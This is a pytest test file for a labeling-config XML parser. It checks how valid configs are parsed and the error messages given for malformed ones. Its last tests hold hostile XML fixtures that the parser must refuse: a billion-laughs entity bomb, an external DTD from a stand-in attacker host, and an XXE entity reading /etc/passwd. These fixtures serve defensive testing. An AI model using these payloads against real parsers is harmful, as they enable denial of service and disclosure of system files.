"""Parsing labeling configs: what a valid config becomes, and every way one is refused."""

from __future__ import annotations

import pytest

from prelabel.errors import LabelConfigError
from prelabel.labeling import (
    MAX_CONFIG_BYTES,
    Choices,
    LabelConfig,
    Labels,
    Number,
    ObjectTag,
    Option,
    Rating,
    Taxonomy,
    TextArea,
    parse_label_config,
)

TEXT = '<Text name="text" value="$text"/>'


def view(*tags: str) -> str:
    return "<View>" + "".join(tags) + "</View>"


def test_example_config_has_its_objects_and_controls_in_document_order(
    example: LabelConfig,
) -> None:
    assert example.objects == {
        "text": ObjectTag(name="text", tag="Text", value="$text", field="text")
    }
    assert list(example.controls) == [
        "sentiment",
        "topics",
        "ner",
        "comment",
        "rating",
        "num",
        "tax",
    ]
    assert example.controls["sentiment"] == Choices(
        name="sentiment",
        to_name=("text",),
        options=(Option("Positive"), Option("Negative")),
        multiple=False,
    )
    assert example.controls["topics"] == Choices(
        name="topics",
        to_name=("text",),
        options=(Option("Sports"), Option("Politics")),
        multiple=True,
    )
    assert example.controls["ner"] == Labels(
        name="ner", to_name=("text",), options=(Option("PER"), Option("ORG"))
    )
    assert example.controls["comment"] == TextArea(name="comment", to_name=("text",))
    assert example.controls["rating"] == Rating(name="rating", to_name=("text",), max_rating=5)
    assert example.controls["num"] == Number(
        name="num", to_name=("text",), minimum=0.0, maximum=10.0
    )
    assert example.controls["tax"] == Taxonomy(
        name="tax",
        to_name=("text",),
        options=(Option("A", children=(Option("A1"),)), Option("B")),
    )


def test_control_type_is_its_tag_in_lower_case(example: LabelConfig) -> None:
    types = {name: control.type for name, control in example.controls.items()}
    assert types == {
        "sentiment": "choices",
        "topics": "choices",
        "ner": "labels",
        "comment": "textarea",
        "rating": "rating",
        "num": "number",
        "tax": "taxonomy",
    }


def test_config_keeps_its_xml_verbatim() -> None:
    xml = view(TEXT, '<TextArea name="c" toName="text"/>')
    assert parse_label_config(xml).xml == xml


def test_option_alias_and_hint_are_read_and_alias_is_the_label() -> None:
    config = parse_label_config(
        view(
            TEXT,
            '<Choices name="s" toName="text">',
            '<Choice value="Positive" alias="pos" hint="favourable"/><Choice value="Negative"/>',
            "</Choices>",
        )
    )
    positive, negative = config.controls["s"].options  # type: ignore[attr-defined]
    assert positive == Option("Positive", alias="pos", hint="favourable")
    assert (positive.label, negative.label) == ("pos", "Negative")


def test_option_background_is_read_as_written_and_absent_or_empty_is_none() -> None:
    config = parse_label_config(
        view(
            TEXT,
            '<Labels name="ner" toName="text">',
            '<Label value="PER" background="#ff0000"/>',
            '<Label value="ORG" background=" rgb(0, 128, 0) "/>',
            '<Label value="LOC" background=""/><Label value="MISC"/>',
            "</Labels>",
            '<Choices name="s" toName="text"><Choice value="Yes" background="green"/></Choices>',
            '<Taxonomy name="t" toName="text">',
            '<Choice value="Animal" background="blue">',
            '<Choice value="Cat" background="orange"/>',
            "</Choice>",
            "</Taxonomy>",
        )
    )
    labels = config.controls["ner"].options  # type: ignore[attr-defined]
    assert [option.background for option in labels] == ["#ff0000", " rgb(0, 128, 0) ", None, None]
    assert labels[0] == Option("PER", background="#ff0000")
    assert config.controls["s"].options == (Option("Yes", background="green"),)  # type: ignore[attr-defined]
    assert config.controls["t"].options == (  # type: ignore[attr-defined]
        Option("Animal", children=(Option("Cat", background="orange"),), background="blue"),
    )


def test_option_background_changes_no_label_and_no_answer_schema() -> None:
    plain = parse_label_config(
        view(TEXT, '<Labels name="ner" toName="text"><Label value="PER" alias="p"/></Labels>')
    )
    coloured = parse_label_config(
        view(
            TEXT,
            '<Labels name="ner" toName="text">'
            '<Label value="PER" alias="p" background="#ff0000"/></Labels>',
        )
    )
    assert coloured.controls["ner"].options[0].label == "p"  # type: ignore[attr-defined]
    assert coloured.answer_schema() == plain.answer_schema()


@pytest.mark.parametrize(
    ("choice", "multiple"),
    [
        pytest.param(None, False, id="default-single"),
        pytest.param("single", False, id="single"),
        pytest.param("single-radio", False, id="single-radio"),
        pytest.param("multiple", True, id="multiple"),
    ],
)
def test_choices_mode_comes_from_the_choice_attribute(choice: str | None, multiple: bool) -> None:
    attribute = f' choice="{choice}"' if choice else ""
    config = parse_label_config(
        view(TEXT, f'<Choices name="c" toName="text"{attribute}><Choice value="a"/></Choices>')
    )
    assert config.controls["c"].multiple is multiple  # type: ignore[attr-defined]


def test_layout_tags_are_walked_through_and_ignored() -> None:
    config = parse_label_config(
        "<View>"
        "<Style>.big { font-size: 2em }</Style>"
        '<Header value="Read the text"/>'
        '<View style="display: flex"><Collapse><Panel value="Source">'
        f"{TEXT}"
        "</Panel></Collapse></View>"
        '<Filter name="f" toName="ner" minlength="0"/>'
        '<Labels name="ner" toName="text">'
        '<View><Header value="People"/><Label value="PER"/></View><Label value="ORG"/>'
        "</Labels>"
        "</View>"
    )
    assert list(config.objects) == ["text"]
    assert list(config.controls) == ["ner"]
    assert [option.value for option in config.controls["ner"].options] == ["PER", "ORG"]  # type: ignore[attr-defined]


def test_comma_separated_to_name_keeps_every_object_in_order() -> None:
    config = parse_label_config(
        view(
            '<Image name="img" value="$image"/>',
            TEXT,
            '<TextArea name="c" toName="text, img"/>',
        )
    )
    assert config.controls["c"].to_name == ("text", "img")


def test_objects_read_nested_fields_and_literals() -> None:
    config = parse_label_config(
        view(
            '<Text name="title" value="Instructions: label the text"/>',
            '<Text name="body" value="$doc.body"/>',
            '<HyperText name="html" value="$html"/>',
            '<Paragraphs name="chat" value="$dialogue" nameKey="speaker" textKey="says"/>',
            '<Image name="img" value="$image"/>',
            '<Text name="again" value="$html"/>',
            '<TextArea name="c" toName="body"/>',
        )
    )
    assert config.objects["title"].field is None
    assert config.objects["body"].field == "doc.body"
    assert (config.objects["chat"].name_key, config.objects["chat"].text_key) == ("speaker", "says")
    assert [obj.is_text for obj in config.objects.values()] == [True, True, True, True, False, True]
    assert config.data_fields == ("doc.body", "html", "dialogue", "image")


def test_taxonomy_reads_nesting_separator_and_leafs_only() -> None:
    config = parse_label_config(
        view(
            TEXT,
            '<Taxonomy name="t" toName="text" pathSeparator="::" leafsOnly="true">',
            '<Choice value="Animal">',
            '<Choice value="Cat" hint="meows"/><Choice value="Dog"/>',
            "</Choice>",
            "</Taxonomy>",
        )
    )
    taxonomy = config.controls["t"]
    assert isinstance(taxonomy, Taxonomy)
    assert (taxonomy.separator, taxonomy.leafs_only) == ("::", True)
    assert taxonomy.options == (
        Option("Animal", children=(Option("Cat", hint="meows"), Option("Dog"))),
    )


def test_number_bounds_are_floats() -> None:
    config = parse_label_config(view(TEXT, '<Number name="n" toName="text" min="-1.5" max="2e3"/>'))
    assert config.controls["n"] == Number(name="n", to_name=("text",), minimum=-1.5, maximum=2000.0)


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        pytest.param(
            "<View><Text name='t' value='$t'></View>",
            "not well-formed XML: mismatched tag: line 1, column 34",
            id="malformed-xml-with-position",
        ),
        pytest.param("", "not well-formed XML: no element found", id="empty"),
        pytest.param(
            TEXT, "root tag of a label config must be <View>, got <Text>", id="root-not-view"
        ),
        pytest.param(
            view(TEXT, '<Choices toName="text"><Choice value="a"/></Choices>'),
            'a control tag <Choices> has no "name"',
            id="control-without-name",
        ),
        pytest.param(
            view(TEXT, '<Choices name="c"><Choice value="a"/></Choices>'),
            '<Choices name="c"> has no "toName"',
            id="control-without-to-name",
        ),
        pytest.param(
            view(TEXT, '<TextArea name="c" toName="body"/>'),
            '<TextArea name="c"> has toName "body", which names no object tag; objects: text',
            id="to-name-names-no-object",
        ),
        pytest.param(
            view(TEXT, '<TextArea name="c" toName="text,"/>'),
            'toName="text,", which holds an empty name',
            id="to-name-with-empty-part",
        ),
        pytest.param(
            view('<Audio name="audio" value="$audio"/>', '<TextArea name="c" toName="audio"/>'),
            'annotates "audio", a <Audio>, which is not a supported object tag; '
            "supported: Text, HyperText, Paragraphs, Image",
            id="to-name-names-unsupported-object",
        ),
        pytest.param(
            view(
                '<Image name="img" value="$image"/>',
                '<Labels name="l" toName="img"><Label value="a"/></Labels>',
            ),
            '<Labels name="l"> cannot annotate <Image name="img">; it works on <Text>',
            id="labels-on-image",
        ),
        pytest.param(
            view(TEXT, '<Text name="text" value="$other"/>', '<TextArea name="c" toName="text"/>'),
            'the name "text" is used by both <Text> and <Text>',
            id="duplicate-object-names",
        ),
        pytest.param(
            view(TEXT, '<TextArea name="text" toName="text"/>'),
            'the name "text" is used by both <Text> and <TextArea>',
            id="control-named-like-an-object",
        ),
        pytest.param(
            view(TEXT, '<TextArea name="c" toName="text"/>', '<Rating name="c" toName="text"/>'),
            'the name "c" is used by both <TextArea> and <Rating>',
            id="duplicate-control-names",
        ),
        *(
            pytest.param(
                view(f'<Text name="text" value="{value}"/>', '<TextArea name="c" toName="text"/>'),
                f'<Text name="text"> has value="{value}", which is not a data field',
                id=f"field-syntax-{case}",
            )
            for case, value in [
                ("dollar-alone", "$"),
                ("leading-digit", "$1a"),
                ("double-dot", "$a..b"),
                ("space", "$a b"),
                ("trailing-dot", "$a."),
                ("leading-dot", "$.a"),
            ]
        ),
        pytest.param(
            view('<Text value="$text"/>', '<TextArea name="c" toName="text"/>'),
            'an object tag <Text> has no "name"',
            id="object-without-name",
        ),
        pytest.param(
            view('<Text name="text"/>', '<TextArea name="c" toName="text"/>'),
            '<Text name="text"> has no "value"',
            id="object-without-value",
        ),
        pytest.param(
            view(TEXT, '<Choices name="c" toName="text"/>'),
            '<Choices name="c"> has no <Choice> options',
            id="choices-without-options",
        ),
        pytest.param(
            view(TEXT, '<Labels name="l" toName="text"></Labels>'),
            '<Labels name="l"> has no <Label> options',
            id="labels-without-options",
        ),
        pytest.param(
            view(TEXT, '<Taxonomy name="t" toName="text" apiUrl="https://example.com/tree"/>'),
            '<Taxonomy name="t"> has no <Choice> options',
            id="taxonomy-without-options",
        ),
        pytest.param(
            view(TEXT, '<Choices name="c" toName="text"><Choice alias="x"/></Choices>'),
            'a <Choice> in <Choices name="c"> has no "value"',
            id="option-without-value",
        ),
        pytest.param(
            view(
                TEXT,
                '<Choices name="c" toName="text"><Choice value="a"/><Choice value="a"/></Choices>',
            ),
            '<Choices name="c"> has two <Choice> options labelled "a"',
            id="duplicate-choice",
        ),
        pytest.param(
            view(
                TEXT,
                '<Labels name="l" toName="text">'
                '<Label value="a" alias="x"/><Label value="x"/></Labels>',
            ),
            '<Labels name="l"> has two <Label> options labelled "x"',
            id="duplicate-label-through-alias",
        ),
        pytest.param(
            view(
                TEXT,
                '<Taxonomy name="t" toName="text">'
                '<Choice value="A"><Choice value="x"/><Choice value="x"/></Choice></Taxonomy>',
            ),
            '<Taxonomy name="t"> has two <Choice> options labelled "x"',
            id="duplicate-taxonomy-siblings",
        ),
        pytest.param(
            view(
                TEXT,
                '<Taxonomy name="t" toName="text" pathSeparator="/">'
                '<Choice value="A"><Choice value="B"/></Choice><Choice value="A/B"/></Taxonomy>',
            ),
            "paths ['A', 'B'] and ['A/B'] both read \"A/B\" with pathSeparator=\"/\"",
            id="taxonomy-paths-collide",
        ),
        pytest.param(
            view(TEXT, '<Number name="n" toName="text" min="low"/>'),
            '<Number name="n"> has min="low", which is not a number',
            id="non-numeric-min",
        ),
        pytest.param(
            view(TEXT, '<Number name="n" toName="text" max="nan"/>'),
            '<Number name="n"> has max="nan", which is not a number',
            id="nan-max",
        ),
        pytest.param(
            view(TEXT, '<Number name="n" toName="text" min="5" max="1"/>'),
            '<Number name="n"> has min=5 above max=1',
            id="min-above-max",
        ),
        pytest.param(
            view(TEXT, '<Rating name="r" toName="text" maxRating="lots"/>'),
            '<Rating name="r"> has maxRating="lots", which is not a positive integer',
            id="non-numeric-max-rating",
        ),
        pytest.param(
            view(TEXT, '<Rating name="r" toName="text" maxRating="0"/>'),
            'maxRating="0", which is not a positive integer',
            id="zero-max-rating",
        ),
        pytest.param(
            view(TEXT, '<Rating name="r" toName="text" maxRating="3.5"/>'),
            'maxRating="3.5", which is not a positive integer',
            id="fractional-max-rating",
        ),
        pytest.param(
            view(TEXT, f'<Rating name="r" toName="text" maxRating="{"9" * 5000}"/>'),
            "which is not a positive integer",
            id="max-rating-too-long-to-convert",
        ),
        pytest.param(
            view(TEXT, "<Header value='nothing to do'/>"),
            "the label config has no control tag; add one of Choices, Labels, TextArea, "
            "Number, Rating, Taxonomy",
            id="no-control",
        ),
        pytest.param(
            view(
                TEXT, '<RectangleLabels name="r" toName="text"><Label value="a"/></RectangleLabels>'
            ),
            "<RectangleLabels> is not a supported control tag; supported: Choices, Labels, "
            "TextArea, Number, Rating, Taxonomy",
            id="unsupported-control",
        ),
        pytest.param(
            view(TEXT, '<Choices name="c" toName="text" value="$options"/>'),
            'value="$options"); dynamic choices are not supported',
            id="dynamic-choices",
        ),
        pytest.param(
            view(
                TEXT, '<Choices name="c" toName="text" choice="many"><Choice value="a"/></Choices>'
            ),
            '<Choices name="c"> has choice="many"; expected "single", "single-radio" or "multiple"',
            id="unknown-choice-mode",
        ),
        pytest.param(
            "<View>" * 101 + "</View>" * 101,
            "nests tags deeper than 100 levels",
            id="too-deep",
        ),
        pytest.param(
            view(TEXT, '<TextArea name="c\ud800" toName="text"/>'),
            "the label config is not valid Unicode at character",
            id="lone-surrogate",
        ),
        pytest.param(
            '<!DOCTYPE View []><View><TextArea name="c" toName="t"/></View>',
            "the label config declares a DTD or entities, which are not allowed",
            id="internal-dtd",
        ),
    ],
)
def test_bad_config_is_refused_with_a_message_saying_what_is_wrong(xml: str, message: str) -> None:
    with pytest.raises(LabelConfigError) as caught:
        parse_label_config(xml)
    assert message in caught.value.message


def test_config_over_the_size_limit_is_refused_before_parsing_with_its_size() -> None:
    padding = "<!--" + "x" * MAX_CONFIG_BYTES + "-->"
    xml = view(TEXT, '<TextArea name="c" toName="text"/>', padding)
    size = len(xml.encode("utf-8"))
    with pytest.raises(LabelConfigError, match=f"is {size:,} bytes; the limit is 1,000,000"):
        parse_label_config(xml)


def test_size_limit_counts_utf8_bytes_not_characters() -> None:
    # 400,000 three-byte characters are 1.2 MB although they are only 400,000 characters.
    xml = view(
        TEXT, '<TextArea name="c" toName="text"/>', "<Header value='" + "€" * 400_000 + "'/>"
    )
    assert len(xml) < MAX_CONFIG_BYTES
    with pytest.raises(LabelConfigError, match="the limit is 1,000,000"):
        parse_label_config(xml)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE View [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<View><Text name="text" value="&lol9;"/><TextArea name="c" toName="text"/></View>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE View SYSTEM "http://attacker.invalid/evil.dtd">
<View><Text name="text" value="$text"/><TextArea name="c" toName="text"/></View>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE View [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<View><Text name="text" value="&secret;"/><TextArea name="c" toName="text"/></View>"""


@pytest.mark.parametrize(
    "xml",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity"),
    ],
)
def test_hostile_xml_is_refused_without_expanding_or_fetching(xml: str) -> None:
    with pytest.raises(LabelConfigError, match="declares a DTD or entities"):
        parse_label_config(xml)
